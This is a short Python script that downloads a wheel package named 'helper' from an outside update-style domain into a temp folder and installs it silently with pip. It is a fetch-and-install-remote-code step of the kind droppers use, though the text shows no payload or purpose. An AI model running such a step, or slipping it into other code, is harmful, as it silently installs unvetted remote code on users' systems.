import os, subprocess, sys, tempfile, urllib.request
whl = os.path.join(tempfile.gettempdir(), "helper-1.0-py3-none-any.whl")
urllib.request.urlretrieve("https://cdn.example-updates.net/helper-1.0-py3-none-any.whl", whl)
subprocess.run([sys.executable, "-m", "pip", "install", "-q", whl])
